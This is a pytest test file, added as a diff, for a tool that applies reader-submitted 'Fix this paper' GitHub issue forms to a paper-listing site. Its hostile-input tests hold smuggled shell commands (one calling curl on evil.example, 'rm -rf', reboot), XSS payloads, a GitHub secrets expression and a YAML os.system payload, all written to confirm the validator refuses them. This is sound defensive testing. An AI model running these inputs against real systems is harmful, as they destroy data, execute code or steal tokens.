@@ -1,0 +1,338 @@
+"""papersite correct: a submitted "Fix this paper" form becomes a maintainer edit of one page.
+
+Issue bodies are written as GitHub renders a submitted issue form (a ``### Label``
+section per field, ``_No response_`` when empty; see tests/fixtures/issues/). Each
+test runs the command line on a small project and looks at what a maintainer would:
+the page, the diff, ``papersite check``, and for hostile bodies that every file is
+byte-for-byte what it was and the error names the issue body's line.
+"""
+
+from __future__ import annotations
+
+import re
+from pathlib import Path
+from urllib.parse import parse_qs, urlsplit
+
+import pytest
+
+from generator.cli import main
+from generator.config import bundled_taxonomy
+from generator.correction_form import CUT_MARK, FIELDS, prefill_url
+from generator.record import read_page
+from generator.taxonomy import load_taxonomy
+from site_fixtures import fixture_records, write_project
+
+FIXTURES = Path(__file__).parent / "fixtures" / "issues"
+A1 = "site_src/papers/one-step-diffusion-via-shortcut-models.md"
+
+
+def github_body(values: dict[str, str]) -> str:
+    """A body as GitHub renders the form: every field in form order, empty ones as _No response_."""
+    return "\n\n".join(f"### {f.label}\n\n{values.get(f.id) or '_No response_'}" for f in FIELDS)
+
+
+def form_values_from_link(url: str) -> dict[str, str]:
+    """What the form holds when a reader opens the pre-filled link (GitHub fills fields by id)."""
+    query = parse_qs(urlsplit(url).query)
+    return {f.id: query[f.id][0] for f in FIELDS if f.id in query}
+
+
+@pytest.fixture()
+def project(tmp_path: Path) -> Path:
+    return write_project(tmp_path / "site")
+
+
+def snapshot(root: Path) -> dict[str, bytes]:
+    return {p.relative_to(root).as_posix(): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}
+
+
+def correct(project: Path, body: str | bytes, *args: str, capsys) -> tuple[int, str, str, Path]:
+    path = project.parent / "issue-body.md"
+    if isinstance(body, bytes):
+        path.write_bytes(body)
+    else:
+        path.write_text(body, encoding="utf-8")
+    code = main(["--project", str(project), "correct", str(path), *args])
+    out, err = capsys.readouterr()
+    return code, out, err, path
+
+
+def current_values(project: Path, slug: str) -> dict[str, str]:
+    record = read_page(project / "site_src" / "papers" / f"{slug}.md")
+    return form_values_from_link(prefill_url("https://github.com/example/papers", record, load_taxonomy(bundled_taxonomy())))
+
+
+def test_a_form_as_github_renders_it_corrects_the_page(project: Path, capsys) -> None:
+    body = (FIXTURES / "fix-topic-keywords-links.md").read_text(encoding="utf-8")
+    code, out, err, _ = correct(project, body, capsys=capsys)
+    assert code == 0, err
+    page = read_page(project / A1)
+    assert (page.topic.area, page.topic.subarea, page.topic.source) == ("Deep Learning", "Theory", "maintainer")
+    assert page.topic.confidence is None
+    assert page.keywords == ["diffusion models", "shortcut models", "consistency models"]
+    assert page.links == {
+        "code": "https://github.com/kvfrans/shortcut-models",
+        "openreview": "https://openreview.net/forum?id=OlzB6LnXcS",
+    }
+    # fields the form left as they were stay exactly as they were
+    original = next(r for r in fixture_records() if r.id == "a1")
+    assert (page.title, page.authors, page.abstract, page.decision) == (
+        original.title, original.authors, original.abstract, original.decision
+    )
+    assert f"--- a/{A1}" in out and "+  code: https://github.com/kvfrans/shortcut-models" in out
+    assert "-  subarea: Generative Models and Autoencoders" in out
+    assert f"changed topic, keywords, links in {A1}" in out
+    assert main(["--project", str(project), "check"]) == 0
+
+
+def test_dry_run_prints_the_diff_and_writes_nothing_but_the_comment(project: Path, capsys) -> None:
+    before = snapshot(project)
+    comment = project.parent / "comment.md"
+    body = (FIXTURES / "fix-topic-keywords-links.md").read_text(encoding="utf-8")
+    code, out, _, _ = correct(project, body, "--dry-run", "--comment", str(comment), capsys=capsys)
+    assert code == 0
+    assert snapshot(project) == before
+    assert "+- shortcut models" in out and "would change topic, keywords, links" in out
+    text = comment.read_text(encoding="utf-8")
+    assert text.startswith("**The correction is valid.**")
+    assert "```diff\n--- a/" in text and "+  subarea: Theory" in text
+
+
+def test_textarea_line_endings_from_a_browser_are_read_the_same(project: Path, capsys) -> None:
+    body = (FIXTURES / "fix-topic-keywords-links.md").read_text(encoding="utf-8").replace("\n", "\r\n")
+    code, _, err, _ = correct(project, body, capsys=capsys)
+    assert code == 0, err
+    assert read_page(project / A1).keywords == ["diffusion models", "shortcut models", "consistency models"]
+
+
+def test_the_pre_filled_form_submitted_unchanged_changes_nothing(project: Path, capsys) -> None:
+    before = snapshot(project)
+    for record in fixture_records():
+        if record.slug == "hostile-paper":
+            continue  # its listing text is not something the form accepts back; covered below
+        values = current_values(project, record.slug)
+        values["reason"] = "Just checking."
+        code, out, err, _ = correct(project, github_body(values), capsys=capsys)
+        assert code == 0, (record.slug, err)
+        assert "nothing to change" in out, record.slug
+    assert snapshot(project) == before
+
+
+def test_a_shortened_abstract_left_alone_keeps_the_page_abstract(project: Path, capsys) -> None:
+    long_abstract = " ".join(f"Sentence {n} says something about shortcut models and their sampling." for n in range(120))
+    path = project / A1
+    path.write_text(path.read_text(encoding="utf-8").replace(
+        "abstract: Diffusion models and flow-matching models have enabled generating diverse and realistic images.",
+        f"abstract: {long_abstract}",
+    ), encoding="utf-8")
+    record = read_page(path)
+    url = prefill_url("https://github.com/example/papers", record, load_taxonomy(bundled_taxonomy()))
+    values = form_values_from_link(url)
+    assert values["abstract"].endswith(CUT_MARK) and len(values["abstract"]) < len(long_abstract)
+    values["paper_title"] = "One-Step Diffusion via Shortcut Models"
+    values["reason"] = "Hyphen."
+    code, out, err, _ = correct(project, github_body(values), capsys=capsys)
+    assert code == 0, err
+    page = read_page(path)
+    assert page.title == "One-Step Diffusion via Shortcut Models" and page.abstract == long_abstract
+    # ... but a shortened abstract someone edited cannot be applied: the rest is unknown
+    values["abstract"] = "Changed start. " + values["abstract"]
+    code, _, err, body = correct(project, github_body(values), capsys=capsys)
+    assert code == 1
+    assert re.search(rf"^{re.escape(str(body))}:\d+: the abstract ends with '{re.escape(CUT_MARK)}'", err, re.MULTILINE), err
+
+
+def test_a_new_title_replaces_a_derived_one_and_an_abstract_fills_a_missing_one(project: Path, capsys) -> None:
+    values = current_values(project, "no-topic-paper")
+    values.update(
+        paper_title="A Paper With a Real Title",
+        abstract="We show that a page without an abstract can get one.\r\n\r\nIn two paragraphs.",
+        authors="- Grace Hopper\n- Zoë Ångström-Núñez\n- 李明",
+        topic="Theory",
+        reason="From the PDF.",
+    )
+    code, _, err, _ = correct(project, github_body(values), capsys=capsys)
+    assert code == 0, err
+    page = read_page(project / "site_src" / "papers" / "no-topic-paper.md")
+    assert page.abstract == "We show that a page without an abstract can get one.\n\nIn two paragraphs."
+    assert page.authors == ["Grace Hopper", "Zoë Ångström-Núñez", "李明"]
+    assert (page.topic.area, page.topic.subarea, page.topic.source) == ("Theory", None, "maintainer")
+    assert main(["--project", str(project), "check"]) == 0
+
+
+def a1_values(**changes: str) -> dict[str, str]:
+    values = {
+        "paper_id": "a1",
+        "paper_title": "One Step Diffusion via Shortcut Models",
+        "authors": "Kevin Frans\nDanijar Hafner\nSergey Levine\nPieter Abbeel",
+        "reason": "See the paper.",
+    }
+    values.update(changes)
+    return values
+
+
+OTHER = next(r for r in fixture_records() if r.id == "a2")
+
+HOSTILE = {
+    "unknown id": (a1_values(paper_id="f00dfeed"), "paper_id", "no paper page has the id 'f00dfeed'"),
+    "slug for id": (
+        a1_values(paper_id="graph-transformers"), "paper_id", "that is the slug of site_src/papers/graph-transformers.md",
+    ),
+    "shell in id": (a1_values(paper_id="a1; rm -rf ~ $(curl evil.example)"), "paper_id", "is not an id"),
+    "topic outside the taxonomy": (a1_values(topic="Alchemy · Transmutation"), "topic", "is not in the taxonomy"),
+    "empty title": (a1_values(paper_title="\u200b \u200b"), "paper_title", "the title is empty"),
+    "javascript link": (a1_values(links="code: javascript:alert(document.cookie)"), "links", "must be an http(s) URL"),
+    "link without a name": (a1_values(links="https://example.org/paper.pdf"), "links", "write each link as 'name: URL'"),
+    "HTML in a name": (
+        a1_values(authors='Kevin Frans\n<img src=x onerror="alert(1)">\nSergey Levine'), ("authors", 1), "contains HTML",
+    ),
+    "control character in a name": (a1_values(authors="Kevin Frans\nDanijar\x1b[31m Hafner"), ("authors", 1), "U+001B"),
+    "bidi override in the title": (a1_values(paper_title="One Step \u202eledoM"), "paper_title", "U+202E"),
+    "GitHub expression": (a1_values(paper_title="${{ secrets.GITHUB_TOKEN }}"), "paper_title", "contains '${{'"),
+    "YAML front matter in the abstract": (
+        a1_values(abstract="Fine.\nslug: pwned\ntopic: {area: Evil, source: maintainer}"), ("abstract", 1),
+        "looks like page front matter",
+    ),
+    "YAML document in the keywords": (a1_values(keywords="---\n!!python/object/apply:os.system ['id']"), "keywords", "front matter"),
+    "shell in a name": (a1_values(authors="Kevin Frans\n`id`; $(reboot) | tee /etc/passwd"), ("authors", 1), "a name is letters"),
+    "another paper's fields": (
+        a1_values(paper_title=OTHER.title, authors="\n".join(OTHER.authors), abstract=OTHER.abstract),
+        "paper_title", "describes another paper",
+    ),
+    "duplicate keywords": (a1_values(keywords="diffusion models\nDiffusion Models"), None, "(in the corrected page)"),
+}
+
+
+def line_of_field(body: str, where: str | tuple[str, int]) -> int:
+    """Body line of a field's value (plus an offset into a multi-line value)."""
+    field_id, offset = where if isinstance(where, tuple) else (where, 0)
+    label = next(f.label for f in FIELDS if f.id == field_id)
+    return body.split("\n").index(f"### {label}") + 3 + offset
+
+
+@pytest.mark.parametrize("case", sorted(HOSTILE))
+def test_a_bad_or_hostile_form_changes_nothing_and_names_its_line(project: Path, capsys, case: str) -> None:
+    values, where, message = HOSTILE[case]
+    body = github_body(values)
+    before = snapshot(project)
+    code, out, err, path = correct(project, body, capsys=capsys)
+    assert code == 1, out
+    assert snapshot(project) == before
+    assert "Traceback" not in err and "nothing was changed" in err
+    assert message in err, err
+    if where is not None:
+        assert f"{path}:{line_of_field(body, where)}: " in err, err
+    else:
+        assert re.search(rf"^{re.escape(A1)}:\d+: ", err, re.MULTILINE), err
+
+
+def test_every_field_hostile_at_once_reports_every_problem(project: Path, capsys) -> None:
+    evil = '${{ github.event.issue.title }} <script>alert(1)</script> $(rm -rf /) `id`'
+    values = {f.id: evil for f in FIELDS}
+    values["authors"] = f"{evil}\nslug: x"
+    values["topic"] = evil
+    before = snapshot(project)
+    code, _, err, _ = correct(project, github_body(values), capsys=capsys)
+    assert code == 1 and snapshot(project) == before
+    for expected in ("is not an id", "contains '${{'", "contains HTML", "is not in the taxonomy", "write each link as"):
+        assert expected in err, expected
+
+
+def test_a_huge_body_is_refused_before_it_is_read(project: Path, capsys) -> None:
+    body = github_body(a1_values(abstract="word " * 210_000))  # a 1 MB body
+    before = snapshot(project)
+    code, _, err, path = correct(project, body, capsys=capsys)
+    assert code == 1 and snapshot(project) == before
+    assert f"{path}:1: the issue body is 1,05" in err and "at most 65,536 characters" in err
+
+
+def test_an_issue_not_made_with_the_form_is_refused(project: Path, capsys) -> None:
+    code, _, err, path = correct(project, "The second author's name is misspelled, please fix!", capsys=capsys)
+    assert code == 1
+    assert f"{path}:1: no '### Paper id' section" in err
+
+
+def test_a_body_that_is_not_utf8_is_refused(project: Path, capsys) -> None:
+    code, _, err, path = correct(project, b"### Paper id\n\na1\n\n### Title\n\n\xff\xfe", capsys=capsys)
+    assert code == 1 and f"{path}:1: the issue body is not UTF-8 text" in err
+
+
+def test_the_failure_comment_quotes_the_problems_in_a_fence_they_cannot_close(project: Path, capsys) -> None:
+    comment = project.parent / "comment.md"
+    values = a1_values(paper_id="````\n@everyone [click](https://evil.example)")
+    code, _, _, _ = correct(project, github_body(values), "--dry-run", "--comment", str(comment), capsys=capsys)
+    assert code == 1
+    text = comment.read_text(encoding="utf-8")
+    assert text.startswith("**This correction cannot be applied yet.**")
+    fence = re.search(r"^(`{3,})$", text, re.MULTILINE).group(1)
+    inner = text.split(fence + "\n", 1)[1].rsplit("\n" + fence, 1)[0]
+    assert "`" * len(fence) not in inner
+
+
+def test_a_batch_of_forms_filled_from_the_same_page_undoes_nothing(project: Path, capsys, tmp_path: Path) -> None:
+    base = tmp_path / "base-pages"
+    base.mkdir()
+    for page in (project / "site_src" / "papers").glob("*.md"):
+        (base / page.name).write_bytes(page.read_bytes())
+    filled = current_values(project, "one-step-diffusion-via-shortcut-models")  # what every reader's form held
+    first = {**filled, "paper_title": "One-Step Diffusion via Shortcut Models", "reason": "Hyphen."}
+    second = {**filled, "keywords": "diffusion models\nshortcut models", "reason": "Keywords."}
+    rival = {**filled, "paper_title": "One Step Diffusion Using Shortcut Models", "reason": "Another title."}
+    for values in (first, second):
+        code, _, err, _ = correct(project, github_body(values), "--base-pages", str(base), capsys=capsys)
+        assert code == 0, err
+    page = read_page(project / A1)
+    assert page.title == "One-Step Diffusion via Shortcut Models" and page.keywords == ["diffusion models", "shortcut models"]
+    before = snapshot(project)
+    code, _, err, path = correct(project, github_body(rival), "--base-pages", str(base), capsys=capsys)
+    assert code == 1 and snapshot(project) == before
+    assert f"{path}:7: the page's title changed after this form was filled in" in err, err
+
+
+# --- the whole loop, offline ------------------------------------------------------------------
+
+
+def fix_this_paper_link(page_html: str) -> str:
+    import html
+
+    match = re.search(r'<a href="([^"]+)"[^>]*>Fix this paper</a>', page_html)
+    assert match, "the paper page has no 'Fix this paper' link"
+    return html.unescape(match.group(1))
+
+
+@pytest.mark.slow
+def test_the_whole_loop_link_form_correct_check_reimport_rebuild(tmp_path: Path, capsys) -> None:
+    """A reader follows the built page's link, changes two fields, submits; the site shows it."""
+    root = tmp_path / "site"
+    assert main(["init", str(root), "--site-name", "Loop"]) == 0
+    config_file = root / "papersite.yml"
+    config_file.write_text(config_file.read_text(encoding="utf-8") + "repo_url: https://github.com/example/loop\n", encoding="utf-8")
+    assert main(["--project", str(root), "build", "--quiet"]) == 0  # imports the example listing, then builds
+    pages = sorted((root / "site_src" / "papers").glob("*.md"))
+    page_path = pages[0]
+    record = read_page(page_path)
+    built = (root / "site" / "papers" / record.slug / "index.html").read_text(encoding="utf-8")
+    values = form_values_from_link(fix_this_paper_link(built))
+    assert values["paper_id"] == record.id
+
+    values["paper_title"] = "A Corrected Title for the Loop Test"
+    values["topic"] = "Theory · Learning Theory"
+    values["reason"] = "The PDF says so."
+    capsys.readouterr()
+    code, out, err, _ = correct(root, github_body(values), capsys=capsys)
+    assert code == 0, err
+    assert "changed title, topic" in out
+    assert main(["--project", str(root), "check"]) == 0
+
+    assert main(["--project", str(root), "import", "--quiet"]) == 0  # the listing still has the old values
+    again = read_page(page_path)
+    assert again.title == "A Corrected Title for the Loop Test"
+    assert (again.topic.area, again.topic.subarea, again.topic.source) == ("Theory", "Learning Theory", "maintainer")
+
+    assert main(["--project", str(root), "build", "--no-import", "--quiet"]) == 0
+    rebuilt = (root / "site" / "papers" / record.slug / "index.html").read_text(encoding="utf-8")
+    assert "A Corrected Title for the Loop Test" in rebuilt and "Learning Theory" in rebuilt
+    assert "set by a maintainer" in rebuilt
+    assert record.title not in rebuilt
+    # the link now offers the corrected values
+    assert form_values_from_link(fix_this_paper_link(rebuilt))["paper_title"] == "A Corrected Title for the Loop Test"
